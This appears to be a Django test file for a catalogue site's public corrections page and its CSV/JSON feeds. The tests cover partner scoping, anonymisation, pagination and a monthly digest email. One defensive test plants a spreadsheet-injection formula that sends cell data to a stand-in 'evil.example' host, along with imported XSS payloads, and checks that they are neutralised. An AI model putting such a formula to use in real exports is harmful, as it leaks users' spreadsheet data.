"""Errata: a partner's page and feeds of the corrections holders and editors made on its records.

Corrections are made through the real paths (the Wagtail editor's form, the holder's service);
the page, the CSV and the JSON list every one of a partner's records and nothing of others'.
"""

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone
from django_q.models import Schedule

from catalogue import errata, services
from catalogue.models import FieldCorrection, PartnerPage, ProjectPage
from catalogue.records import ProjectRecord
from tests.catalogue.test_admin import edit_form
from tests.hostile import ALL_PAYLOADS, MARK, active_markup

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor_client(db):
    user = get_user_model().objects.create_superuser(
        "camille.redac", "camille.redac@example.org", "pw"
    )
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def holder(db):
    return get_user_model().objects.create_user(
        "dominique.porteuse", "dominique@lacravate.example", "pw"
    )


@pytest.fixture
def partners(site_tree):
    apriles = services.upsert_partner("APRILES")
    ffe = services.upsert_partner("La France s'engage")
    return apriles, ffe


def _record(source_id, title, **values):
    return ProjectRecord(
        title=title,
        source_id=source_id,
        summary=values.pop("summary", f"Résumé de la source pour {title}."),
        source_url=f"https://www.apriles.net/fiche/{source_id}",
        postal_code="64000",
        city="Pau",
        **values,
    )


@pytest.fixture
def pages(partners):
    apriles, ffe = partners
    pau = services.upsert_project(
        _record("1637", "Accorderie de Pau"), source_key="Apriles", partner=apriles
    ).page
    other = services.upsert_project(
        _record("ffe-9", "Lire et faire lire"), source_key="ffe", partner=ffe
    ).page
    return pau, other


def _edit_as_editor(client, page, **changes):
    page = ProjectPage.objects.get(pk=page.pk)
    response = client.post(
        f"/admin/pages/{page.pk}/edit/", edit_form(page, **changes, **{"action-publish": "1"})
    )
    assert response.status_code == 302, response.content.decode()[:1500]


def _json(client, slug, page=1):
    response = client.get(f"/partenaires/{slug}/corrections.json?page={page}")
    assert response.status_code == 200
    return json.loads(response.content)


def test_every_correction_of_a_partners_records_and_nothing_of_others(
    editor_client, holder, partners, pages
):
    apriles, ffe = partners
    pau, other = pages
    _edit_as_editor(editor_client, pau, summary="Résumé corrigé par la rédaction.")
    services.apply_holder_edit(
        ProjectPage.objects.get(pk=pau.pk),
        holder,
        {"website": "https://accorderie-pau.example/", "codes": ["INS"]},
        publish=True,
    )
    _edit_as_editor(editor_client, other, summary="Une correction de l'autre partenaire.")

    data = _json(Client(), apriles.slug)
    got = {(r["field"], r["old_value"], r["new_value"], r["by"]) for r in data["results"]}
    assert got == {
        (
            "summary",
            "Résumé de la source pour Accorderie de Pau.",
            "Résumé corrigé par la rédaction.",
            "équipe éditoriale",
        ),
        ("website", "", "https://accorderie-pau.example/", "porteur"),
        ("codes", "", "INS", "porteur"),
    }
    assert data["count"] == 3 and {r["project"] for r in data["results"]} == {pau.pk}
    assert all(r["url"].startswith("http://") for r in data["results"])
    assert [r["field"] for r in _json(Client(), ffe.slug)["results"]] == ["summary"]

    # Page and CSV say the same; nobody is named, in any of them.
    html = Client().get(f"/partenaires/{apriles.slug}/corrections/").content.decode()
    rows = list(csv.reader(io.StringIO(_csv(apriles.slug))))
    assert rows[0][:4] == ["projet", "titre", "url", "champ"] and len(rows) == 4
    assert "Une correction de l'autre partenaire" not in html + _csv(apriles.slug)
    for text in (html, _csv(apriles.slug), json.dumps(data)):
        for secret in ("camille", "dominique", "@example.org", "lacravate.example"):
            assert secret not in text
    assert "Résumé corrigé par la rédaction." in html and "porteur" in html


def _csv(slug):
    response = Client().get(f"/partenaires/{slug}/corrections.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_a_moderated_edit_is_public_once_published_and_a_private_page_never(
    holder, partners, pages
):
    apriles, _ffe = partners
    pau, _other = pages
    revision = services.apply_holder_edit(
        ProjectPage.objects.get(pk=pau.pk), holder, {"summary": "En attente."}, publish=False
    )
    assert FieldCorrection.objects.filter(project=pau).count() == 1
    assert _json(Client(), apriles.slug)["count"] == 0  # not public yet
    revision.publish()
    assert _json(Client(), apriles.slug)["count"] == 1
    ProjectPage.objects.get(pk=pau.pk).unpublish()
    assert _json(Client(), apriles.slug)["count"] == 0
    assert Client().get("/partenaires/inconnu/corrections/").status_code == 404


def test_hostile_values_are_escaped_and_spreadsheet_formulas_neutralised(partners, pages):
    apriles, _ffe = partners
    pau, _other = pages
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'
    FieldCorrection.objects.create(
        project=pau, field_name="summary", old_value=ALL_PAYLOADS, new_value=formula, by="holder"
    )
    FieldCorrection.objects.create(
        project=pau, field_name="title", old_value="+33 1 00", new_value="@SUM(1)", by="editor"
    )
    response = Client().get(f"/partenaires/{apriles.slug}/corrections/")
    html = response.content.decode()
    assert response.status_code == 200 and MARK in html
    assert active_markup(html) == []
    rows = list(csv.reader(io.StringIO(_csv(apriles.slug))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and "'@SUM(1)" in cells and "'+33 1 00" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    results = _json(Client(), apriles.slug)["results"]
    assert {r["old_value"] for r in results} == {ALL_PAYLOADS, "+33 1 00"}


def test_feeds_and_page_are_paginated(partners, pages):
    apriles, _ffe = partners
    pau, _other = pages
    FieldCorrection.objects.bulk_create(
        FieldCorrection(
            project=pau, field_name="summary", old_value=str(n), new_value=str(n + 1), by="editor"
        )
        for n in range(120)
    )
    first = _json(Client(), apriles.slug)
    assert first["count"] == 120 and len(first["results"]) == 100 and first["next"]
    second = _json(Client(), apriles.slug, page=2)
    assert len(second["results"]) == 20 and second["next"] is None and second["previous"]
    ids = {r["old_value"] for r in first["results"] + second["results"]}
    assert len(ids) == 120
    html = Client().get(f"/partenaires/{apriles.slug}/corrections/?page=3").content.decode()
    assert html.count("<tr>") == 1 + 20  # the header, then 120 - 2 × 50
    assert len(list(csv.reader(io.StringIO(_csv(apriles.slug))))) == 121


def _at(year, month, day):
    return timezone.make_aware(datetime(year, month, day, 12, 0))


def test_monthly_digest_once_per_month_never_empty(partners, pages, mailoutbox):
    apriles, ffe = partners
    pau, other = pages
    PartnerPage.objects.filter(pk=apriles.pk).update(contact_email="donnees@apriles.example")
    PartnerPage.objects.filter(pk=ffe.pk).update(contact_email="")  # no address: never sent
    for page, day in ((pau, 10), (other, 11)):
        correction = FieldCorrection.objects.create(
            project=page, field_name="summary", old_value="avant", new_value="après", by="holder"
        )
        FieldCorrection.objects.filter(pk=correction.pk).update(at=_at(2026, 11, day))

    # The clock moved to the first day of December: November's digest goes, once.
    assert errata.send_monthly_digests(now=_at(2026, 12, 1)) == 1
    assert errata.send_monthly_digests(now=_at(2026, 12, 1) + timedelta(hours=3)) == 0
    assert len(mailoutbox) == 1
    message = mailoutbox[0]
    assert message.to == ["donnees@apriles.example"]
    assert "Accorderie de Pau" in message.body and "Lire et faire lire" not in message.body
    assert f"/partenaires/{apriles.slug}/corrections/" in message.body
    assert "novembre 2026" in message.body

    # January: nothing was corrected in December, nothing is sent.
    assert errata.send_monthly_digests(now=_at(2027, 1, 1)) == 0
    assert len(mailoutbox) == 1
    schedule = Schedule.objects.get(name=errata.DIGEST_SCHEDULE)
    assert schedule.func == errata.DIGEST_TASK and schedule.cron == "0 6 1 * *"
